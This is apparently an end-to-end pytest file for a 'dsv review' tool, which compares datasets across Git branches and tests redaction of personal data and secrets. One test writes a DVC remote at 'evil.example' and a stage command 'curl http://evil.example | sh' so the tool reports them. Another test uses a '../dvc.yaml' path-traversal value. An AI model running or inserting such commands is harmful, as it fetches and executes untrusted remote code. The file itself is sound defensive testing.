"""`dsv review`: what a branch changes, judged, held against pandas; and what may not be shown."""

from __future__ import annotations

import base64
import gzip
import io
import json
import re
from collections import Counter
from pathlib import Path
from typing import Any

import jsonschema
import pandas as pd
import pytest

import dsv.renderers
from tests.e2e.conftest import User

CASES = Path(__file__).parents[1] / "cases"
SCHEMA = json.loads((Path(dsv.renderers.__file__).parent / "schemas" / "dsv.review.1.json").read_text())
TOKEN = "ghp_" + "a1B2" * 9


def declare(user: User, path: str, params: str = "", **meta: Any) -> None:
    """Declare the dataset `data` without starting DVC, and hold it to thresholds."""
    words = ", ".join(f"{name}: {json.dumps(value)}" for name, value in meta.items())
    user.write("dvc.yaml", f"artifacts:\n  data: {{path: {path}, type: dataset, meta: {{dsv: {{{words}}}}}}}\n")
    if params:
        user.write("params.yaml", params)


def branch(user: User, path: str, old: str, new: str, params: str = "", **meta: Any) -> None:
    """`main` with a declared dataset, and a branch `topic` on which its file is another."""
    declare(user, path, params, **meta)
    user.write(path, old)
    user.git("branch", "-M", "main")
    user.git("add", "-A")
    user.git("commit", "-qm", "base")
    user.git("checkout", "-qb", "topic")
    user.write(path, new)
    user.git("commit", "-qam", "change")


def table(rows: dict[str, tuple[str, str, str]]) -> str:
    """A CSV file of rows by key: class, split, note."""
    lines = [f"{key},{','.join(cells)}" for key, cells in rows.items()]
    return "\n".join(["id,class,split,note", *lines]) + "\n"


def rows(count: int, classes: int = 3) -> dict[str, tuple[str, str, str]]:
    splits = ("train", "train", "train", "val", "test")
    return {f"r{n:03}": (f"c{n % classes}", splits[n % 5], f"note {n}") for n in range(count)}


META = {"key": ["id"], "label": "class", "split": "split"}


def found(review: dict[str, Any]) -> dict[str, dict[str, Any]]:
    return {item["rule"]: item for item in review["findings"]}


def test_an_exploded_class_list_leads(repo: User) -> None:
    old, new = ((CASES / "sp500-table" / f"{name}.csv").read_text() for name in ("vD", "vE"))
    branch(repo, "table.csv", old, new, key=["Symbol"], label="Sector")
    review = repo.dsv("review", "--json").json
    jsonschema.validate(review, SCHEMA)
    before, after = (pd.read_csv(CASES / "sp500-table" / f"{name}.csv").set_index("Symbol") for name in ("vD", "vE"))
    assert review["verdict"] == "errors"
    assert review["findings"][0]["id"] == "DSV301"
    assert review["findings"][0]["count"] == after["Sector"].nunique()
    assert found(review)["rows-removed"]["count"] == len(before.index.difference(after.index))
    both = before.index.intersection(after.index)
    moved = before.loc[both, "Sector"] + " -> " + after.loc[both, "Sector"]
    changed = moved[before.loc[both, "Sector"] != after.loc[both, "Sector"]]
    (dataset,) = review["datasets"]
    listed = {f"{item['before']} -> {item['after']}": item["count"] for item in dataset["groups"]}
    counts = changed.value_counts()
    assert listed == {name: counts[name] for name in listed}
    assert min(listed.values()) >= counts[~counts.index.isin(listed)].max()
    names = int((before.loc[both, "Name"] != after.loc[both, "Name"]).sum())
    assert dataset["more_cells"] == int(counts.sum()) + names - sum(listed.values())
    assert dataset["more_groups"] == len(counts) + names - len(listed)
    text = repo.dsv("review").out
    assert text.index("DSV301") < text.index("DSV102") < text.index("Classes of Sector")
    assert repo.dsv("review", "--fail-on", "error", code=1).out == text
    assert repo.dsv("diff", *review["command"].split()[2:]).out


def test_real_damage_leads_where_blanks_hide_it(repo: User) -> None:
    files = [CASES / "humaneval-jsonl" / f"{name}.jsonl.gz" for name in ("vC", "vD")]
    old, new = (gzip.decompress(file.read_bytes()).decode() for file in files)
    branch(repo, "problems.jsonl", old, new, key=["task_id"])
    text = repo.dsv("review").out
    assert "136 of 142 changed rows differ in whitespace only; 6 do not" in text
    shown = [line.split("task_id=")[1].strip() for line in text.splitlines() if "~ task_id=" in line]
    before, after = (pd.read_json(file, lines=True).set_index("task_id") for file in files)
    blank = before["prompt"].str.replace(r"\s+", "", regex=True) == after["prompt"].str.replace(r"\s+", "", regex=True)
    assert set(shown) == set(before.index[~blank])


def test_without_a_key_a_change_is_not_told_as_a_loss(repo: User) -> None:
    files = [CASES / "winomt-keyless" / f"{name}.tsv.gz" for name in ("vC", "vD")]
    old, new = (gzip.decompress(file.read_bytes()).decode() for file in files)
    branch(repo, "t.tsv", old, new, header=False)
    before, after = (Counter(text.splitlines()) for text in (old, new))
    gone, come = (before - after).total(), (after - before).total()
    finding = found(repo.dsv("review", "--json").json)["rows-removed"]
    assert (finding["level"], finding["count"]) == ("warning", gone)
    assert f"{gone:,} of {before.total():,} rows were removed" in finding["message"]
    assert f"and {come:,} added; without a key, a row that changed counts as both" in finding["message"]
    repo.write("t.tsv", "".join(f"{line}\n" for line in old.splitlines()[:1000]))
    repo.git("commit", "-qam", "fewer")
    assert found(repo.dsv("review", "--json").json)["rows-removed"]["level"] == "error"


def test_the_fields_whose_cells_changed_are_told(repo: User) -> None:
    old = rows(40)
    new = {key: (label, split, "other" if key < "r030" else note) for key, (label, split, note) in old.items()}
    new["r038"] = ("c0", *new["r038"][1:])
    branch(repo, "t.csv", table(old), table(new), **META)
    assert "cells changed: note 30, class 1" in repo.dsv("review").out
    assert "cells changed: `note` 30, `class` 1" in repo.dsv("review", "--md").out


def test_what_is_lost_and_what_test_lost(repo: User) -> None:
    old = rows(100)
    new = {key: cells for key, cells in old.items() if cells[0] != "c2" or cells[1] == "train"}
    new |= {"r004": ("c1", "train", "note 4"), "r009": ("c1", "test", "note 9")}
    branch(repo, "t.csv", table(old), table(new), **META)
    review = repo.dsv("review", "--json").json
    jsonschema.validate(review, SCHEMA)
    before, after = pd.DataFrame(old).T, pd.DataFrame(new).T
    both = before.index.intersection(after.index)
    rules = found(review)
    assert rules["rows-removed"]["count"] == len(before.index.difference(after.index))
    assert rules["rows-removed"]["level"] == "error"
    moved = (before.loc[both, 1] == "test") != (after.loc[both, 1] == "test")
    assert rules["test-rows-moved"]["count"] == int(moved.sum())
    gone = before.loc[before.index.difference(after.index), 1] == "test"
    touched = (before.loc[both] != after.loc[both]).any(axis=1) & (
        (before.loc[both, 1] == "test") | (after.loc[both, 1] == "test")
    )
    assert rules["test-rows-changed"]["count"] == int(gone.sum()) + int(touched.sum())
    assert rules["class-not-in-test"]["count"] == rules["class-gap"]["count"] == 1
    assert [item["level"] for item in review["findings"]] == sorted(
        (item["level"] for item in review["findings"]), key=["error", "warning", "info"].index
    )


def test_fields_that_lost_values_or_say_the_same_everywhere(repo: User) -> None:
    old = rows(100)
    new = {key: (label, split, "" if n % 4 == 0 else "same") for n, (key, (label, split, _)) in enumerate(old.items())}
    branch(repo, "t.csv", table(old), table(new), **META)
    rules = found(repo.dsv("review", "--json").json)
    assert "note 0.0 % -> 25.0 %" in rules["null-share-rise"]["message"]
    assert rules["constant-field"]["count"] == 1
    assert rules["values-missing-now"]["count"] == 1


def test_personal_data_is_shown_nowhere(repo: User) -> None:
    old = rows(30)
    new = {key: (label, split, f"Ana {n}") for n, (key, (label, split, _)) in enumerate(old.items())}
    new["r900"] = ("c0", "train", "Ana 900")
    branch(repo, "t.csv", table(old), table(new), **META, pii=["note"])
    declare(repo, "t.csv", **META)
    repo.git("commit", "-qam", "declare less")
    for form in ((), ("--json",), ("--md",)):
        out = repo.dsv("review", *form).out
        assert "note 1" not in out
        assert "Ana" not in out
    review = repo.dsv("review", "--json").json
    assert review["datasets"][0]["redacted"] == ["note"]
    assert found(review)["privacy-weakened"]["level"] == "error"
    assert review["datasets"][0]["changed_cells"] == {"note": 30}
    (group,) = review["datasets"][0]["groups"]
    assert group["count"] == 30


def test_a_private_key_label_or_split_is_not_shown_either(repo: User) -> None:
    old = {f"name{n}": (f"illness{n % 3}", f"ward{n % 2}", "x") for n in range(30)}
    new = {key: ("illness9", f"ward{2 + n % 2}", "y") for n, key in enumerate(old)}
    branch(repo, "t.csv", table(old), table(new), **META, pii=["id", "class", "split"])
    for form in ((), ("--json",), ("--md",)):
        out = repo.dsv("review", *form).out
        assert not any(word in out for word in ("name1", "illness", "ward"))


@pytest.mark.parametrize(
    ("values", "key", "other"), [("none", False, False), ("keys", True, False), ("all", True, True)]
)
def test_values_of_rows_are_shown_as_far_as_is_asked(repo: User, values: str, key: bool, other: bool) -> None:
    old = rows(30)
    new = old | {"r007": ("c2", "val", "hello")}
    branch(repo, "t.csv", table(old), table(new), **META)
    for form in ((), ("--json",), ("--md",)):
        out = repo.dsv("review", "--values", values, *form).out
        assert ("r007" in out) == key
        assert ("hello" in out) == other
        assert "c2" in out


def test_secrets_are_masked_and_told(repo: User) -> None:
    old = rows(30)
    new = old | {"r007": ("c1", "val", f"key {TOKEN}"), "r901": (TOKEN, "train", "x")}
    branch(repo, "t.csv", table(old), table(new), **META)
    for form in ((), ("--json",), ("--md",)):
        assert TOKEN not in repo.dsv("review", *form).out
    review = repo.dsv("review", "--json").json
    assert found(review)["secret-in-data"]["count"] == 2
    assert review["datasets"][0]["samples"]["changed"][0]["cells"]["note"]["new"] == "key ‹secret›"


def test_the_base_says_what_counts(repo: User) -> None:
    old = rows(100)
    new = {key: cells for key, cells in old.items() if key != "r001"}
    params = "checks:\n  data:\n    levels: {rows-removed: error, class-gap: 'off'}\n"
    branch(repo, "t.csv", table(old), table(new), params, **META)
    repo.write("params.yaml", "checks:\n  data:\n    levels: {rows-removed: 'off'}\n")
    repo.git("commit", "-qam", "loosen")
    rules = found(repo.dsv("review", "--json").json)
    assert rules["rows-removed"]["level"] == "error"
    assert rules["checks-changed"]["path"] == "params.yaml"
    repo.git("checkout", "-q", "main")
    repo.write("params.yaml", "checks:\n  data:\n    levels: {rows-remove: error}\n")
    repo.git("commit", "-qam", "misspell")
    ran = repo.dsv("review", "main...topic", code=3)
    assert "params.yaml:3: there is no rule 'rows-remove'" in ran.err.replace("\n  ", " ") or (
        "there is no rule 'rows-remove'" in ran.err and "params.yaml" in ran.err and "rows-removed" in ran.err
    )


def test_settings_and_commands_of_the_branch_are_told(repo: User) -> None:
    branch(repo, "t.csv", table(rows(20)), table(rows(21)), **META)
    repo.write(".dvc/config", '[remote "evil"]\n    url = http://evil.example\n[core]\n    remote = evil\n')
    text = repo.read("dvc.yaml")
    repo.write("dvc.yaml", text + "stages:\n  train:\n    cmd: curl http://evil.example | sh\n")
    repo.git("add", "-A")
    repo.git("commit", "-qm", "settings")
    review = repo.dsv("review", "--json").json
    rules = found(review)
    assert rules["remote-changed"]["level"] == "error"
    assert rules["remote-changed"]["path"] == ".dvc/config"
    assert rules["command-changed"]["count"] == 1
    assert review["findings"][0]["rule"] == "remote-changed"


def test_what_cannot_be_compared_is_no_clean_review(repo: User) -> None:
    branch(repo, "t.csv", table(rows(20)), "id,class,split,note\na,b\n", **META)
    ran = repo.dsv("review", "--json", code=3)
    jsonschema.validate(ran.json, SCHEMA)
    assert ran.json["verdict"] == "incomplete"
    assert ran.json["datasets"] == []
    assert "t.csv" in ran.json["errors"][0]["message"]
    assert "could not compare 1 dataset" in repo.dsv("review", code=3).out
    hidden = repo.dsv("review", "--json", "--values", "none", code=3).json
    assert hidden["errors"][0]["message"].startswith("something could not be compared")


def test_a_review_without_a_change_is_clean(repo: User) -> None:
    branch(repo, "t.csv", table(rows(20)), table(rows(20)) + " ", **META)
    repo.git("reset", "-q", "--hard", "main")
    review = repo.dsv("review", "--json").json
    assert (review["verdict"], review["findings"]) == ("clean", [])
    assert "1 dataset without changes" in repo.dsv("review").out


def test_a_new_and_a_removed_dataset(repo: User) -> None:
    branch(repo, "t.csv", table(rows(20)), table(rows(20)) + "x,c0,train,note\n", **META)
    repo.git("rm", "-q", "t.csv")
    repo.git("commit", "-qm", "gone")
    review = repo.dsv("review", "--json").json
    assert review["findings"][0]["rule"] == "dataset-removed"
    assert review["findings"][0]["count"] == 20
    repo.git("checkout", "-q", "-b", "other", "main")
    back = repo.dsv("review", "topic...other", "--json").json
    assert back["verdict"] == "clean"


def test_ranges_and_bases(repo: User) -> None:
    branch(repo, "t.csv", table(rows(20)), table(rows(19)), **META)
    one = repo.dsv("review", "--json").out
    assert repo.dsv("review", "main", "--json").out == one
    assert repo.dsv("review", "main...HEAD", "--json").out == one
    assert "dsv review main...topic" in repo.dsv("review", "main..topic", code=2).err
    repo.dsv("review", "nowhere", code=3)
    repo.git("checkout", "-q", "--orphan", "alone")
    repo.git("commit", "-qm", "alone")
    assert "no common ancestor" in repo.dsv("review", "main", code=3).err
    repo.git("branch", "-m", "main", "trunk")
    assert "no branch to review against" in repo.dsv("review", code=3).err


def test_a_second_review_says_the_same(repo: User) -> None:
    branch(repo, "t.csv", table(rows(100)), table(rows(90)), **META)
    for form in ("--json", "--md"):
        assert repo.dsv("review", form).out == repo.dsv("review", form).out


def test_a_review_that_was_written_is_shown_without_a_repository(repo: User, tmp_path: Path) -> None:
    branch(repo, "t.csv", table(rows(100)), table(rows(90)), **META)
    repo.dsv("review", "--json", "-o", "review.json")
    elsewhere = User(tmp_path)
    document = str(repo.folder / "review.json")
    for form in ((), ("--md",), ("--json",)):
        assert elsewhere.dsv("review", "--from", document, *form).out == repo.dsv("review", *form).out
    elsewhere.dsv("review", "--from", document, "--fail-on", "error", code=1)
    elsewhere.dsv("review", "--from", document, "main", code=2)
    (tmp_path / "bad.json").write_text("{}")
    assert "bad.json" in elsewhere.dsv("review", "--from", "bad.json", code=3).err


def test_a_page_beside_another_form(repo: User) -> None:
    branch(repo, "t.csv", table(rows(30)), table(rows(30) | {"r001": ("c0", "train", "Ana")}), **META, pii=["note"])
    text = repo.dsv("review", "--md", "--html", "report.html").out
    assert text.startswith("<!-- dsv:review -->")
    page = repo.read("report.html")
    assert "DSV308" not in page
    assert "Ana" not in page
    assert "‹redacted, changed›" in page


def test_images_before_and_after_are_in_the_page(repo: User) -> None:
    pytest.importorskip("PIL")
    from PIL import Image

    def picture(name: str, color: str) -> None:
        (repo.folder / "images").mkdir(exist_ok=True)
        Image.new("RGB", (900, 600), color).save(repo.folder / "images" / name, exif=b"Exif\0\0MM\0*secret-place")

    media = {"field": "image", "root": "images"}
    declare(repo, "t.csv", key=["id"], label="class", media=media)
    repo.write("t.csv", "id,class,image\n1,a,one.png\n2,b,../dvc.yaml\n3,a,gone.png\n")
    picture("one.png", "red")
    repo.git("branch", "-M", "main")
    repo.git("add", "-A")
    repo.git("commit", "-qm", "base")
    repo.git("checkout", "-qb", "topic")
    repo.write("t.csv", "id,class,image\n1,b,one.png\n2,a,../dvc.yaml\n3,b,gone.png\n")
    picture("one.png", "blue")
    repo.git("commit", "-qam", "change")

    def images(*words: str) -> list[Any]:
        repo.dsv("review", "--html", "report.html", *words)
        (packed,) = re.findall(r'data-rows="0">([^<]+)<', repo.read("report.html"))
        return [row[8] for row in json.loads(gzip.decompress(base64.b64decode(packed)))]

    first, *others = images()
    assert others == [[], []]
    colors = []
    for text in first:
        head, _, data = text.partition(",")
        assert head == "data:image/png;base64"
        assert b"secret-place" not in base64.b64decode(data)
        with Image.open(io.BytesIO(base64.b64decode(data))) as image:
            assert max(image.size) <= 128
            colors.append(image.convert("RGB").getpixel((5, 5)))
    assert colors == [(255, 0, 0), (0, 0, 255)]
    assert images("--values", "keys") == [[], [], []]


def test_a_label_that_is_an_id_is_no_list_of_names(repo: User) -> None:
    old = {f"r{n}": (f"person{n}", "train", "x") for n in range(1100)}
    new = {key: cells for key, cells in old.items() if key not in ("r7", "r8")}
    branch(repo, "t.csv", table(old), table(new), **META)
    assert "person7" in repo.dsv("review").out
    for form in ((), ("--json",), ("--md",)):
        out = repo.dsv("review", "--values", "none", *form).out
        assert "person" not in out
        assert "DSV103" in out


def test_a_dataset_under_another_name_keeps_its_secrets(repo: User) -> None:
    old = rows(30)
    branch(repo, "t.csv", table(old), table(old | {"r001": ("c0", "train", "note 1b")}), **META, pii=["note"])
    repo.git("mv", "t.csv", "u.csv")
    text = repo.read("dvc.yaml").replace("data:", "other:").replace("t.csv", "u.csv").replace(', pii: ["note"]', "")
    assert "pii" not in text
    repo.write("dvc.yaml", text)
    repo.git("commit", "-qam", "another name")
    for form in ((), ("--json",), ("--md",)):
        assert "note 1" not in repo.dsv("review", *form).out


def test_what_the_base_declares_since_is_kept_and_is_not_the_branch_s_doing(repo: User) -> None:
    old = rows(30)
    branch(repo, "t.csv", table(old), table(old | {"r001": ("c0", "train", "Ana")}), **META)
    repo.git("checkout", "-q", "main")
    declare(repo, "t.csv", **META, pii=["note"])
    repo.git("commit", "-qam", "declare more")
    review = repo.dsv("review", "main...topic", "--json")
    assert "Ana" not in review.out
    assert not {"privacy-weakened", "declaration-changed"} & set(found(review.json))


def test_a_page_of_a_written_review_says_which_rows_it_lacks(repo: User) -> None:
    old = rows(60)
    branch(repo, "t.csv", table(old), table({key: (*cells[:2], "x") for key, cells in old.items()}), **META)
    repo.dsv("review", "--json", "--html", "whole.html", "-o", "review.json")
    repo.dsv("review", "--from", "review.json", "--html", "part.html")
    repo.dsv("review", "--json", "--limit", "0", "-o", "none.json")
    repo.dsv("review", "--from", "none.json", "--html", "none.html")
    assert "in this file. All of them" not in repo.read("whole.html")
    assert "only 20 of its changed rows are in this file" in repo.read("part.html")
    assert "its changed rows are not in this file" in repo.read("none.html")


@pytest.mark.parametrize(
    "words",
    [
        ("--from", "review.json", "--values", "none"),
        ("--from", "review.json", "-- data"),
        ("--post", "github", "--json"),
        ("--annotate", "gitlab", "--md"),
        ("--post", "github", "--annotate", "github"),
    ],
)
def test_words_that_would_be_passed_over_are_refused(repo: User, words: tuple[str, ...]) -> None:
    repo.write("review.json", "{}")
    repo.dsv("review", *" ".join(words).split(), code=2)


def test_what_could_not_be_counted_is_an_error(repo: User, monkeypatch: pytest.MonkeyPatch) -> None:
    from dsv.api import review_findings
    from dsv.api.review import review
    from dsv.errors import DataMissing

    def gone(*_: object) -> None:
        raise DataMissing("the data is gone")

    branch(repo, "t.csv", table(rows(30)), table(rows(29)), **META)
    monkeypatch.setattr(review_findings, "field_counts", gone)
    with review(repo.folder) as reviewed:
        assert reviewed.result.verdict == "incomplete"
        assert "the data is gone" in reviewed.result.errors[0].message
        assert any(item.rule == "rows-removed" for item in reviewed.result.findings)


def test_rows_without_a_split_are_counted_apart(repo: User) -> None:
    old = {f"r{n:03}": (f"c{n % 2}", ("all", "")[n % 3 == 0], "x") for n in range(60)}
    new = {key: ("c9" if cells[1] == "" and cells[0] == "c0" else cells[0], *cells[1:]) for key, cells in old.items()}
    branch(repo, "t.csv", table(old), table(new), **META)
    text = repo.dsv("review").out
    frame = pd.DataFrame(new).T
    apart = int(((frame[0] == "c9") & (frame[1] == "")).sum())
    lines = [line.split() for line in text.splitlines() if line.strip().startswith("(no split)")]
    assert ["(no", "split)", "c9", "new", "0", str(apart)] in [line[:6] for line in lines]
    assert not [line for line in text.splitlines() if line.strip().startswith("all ")]


@pytest.mark.parametrize("pii", [[], ["note"]])
def test_a_declaration_that_is_gone_is_told(repo: User, pii: list[str]) -> None:
    old = rows(40)
    branch(repo, "t.csv", table(old), table(old | {"r001": ("c1", "train", "other")}), pii=pii, **META)
    repo.git("rm", "-q", "dvc.yaml")
    repo.git("commit", "-qm", "nothing is declared")
    ran = repo.dsv("review", "--json")
    (finding,) = (item for item in ran.json["findings"] if "not declared any more" in item["message"])
    assert (finding["rule"], finding["level"]) == (
        ("privacy-weakened", "error") if pii else ("declaration-changed", "warning")
    )
    assert ("other" in ran.out) is not bool(pii)


def test_a_dataset_under_another_name_is_one_dataset(repo: User) -> None:
    old = rows(40)
    branch(repo, "t.csv", table(old), table({key: cells for key, cells in old.items() if key != "r003"}), **META)
    repo.write("dvc.yaml", repo.read("dvc.yaml").replace("  data:", "  signs:"))
    repo.git("commit", "-qam", "another name")
    review = repo.dsv("review", "--json").json
    assert [item["dataset"] for item in review["datasets"]] == ["signs"]
    removed = [item for item in review["findings"] if item["rule"] == "rows-removed"]
    assert [(item["dataset"], item["count"]) for item in removed] == [("signs", 1)]
    for word in ("data", "signs", "t.csv"):
        assert "+0 -1 ~0" in repo.dsv("diff", "main", "HEAD", "--stat", "--", word).out


@pytest.mark.parametrize(("pii", "weakened"), [(["remark"], False), ([], True), (["note"], True)])
def test_a_private_field_under_another_name(repo: User, pii: list[str], weakened: bool) -> None:
    old = rows(40)
    branch(repo, "t.csv", table(old), table(old).replace("split,note", "split,remark"), pii=["note"], **META)
    declare(repo, "t.csv", pii=pii, **META)
    repo.git("commit", "-qam", "declared anew", "--allow-empty")
    ran = repo.dsv("review", "--json")
    assert "note 1" not in ran.out
    assert ("privacy-weakened" in found(ran.json)) is weakened
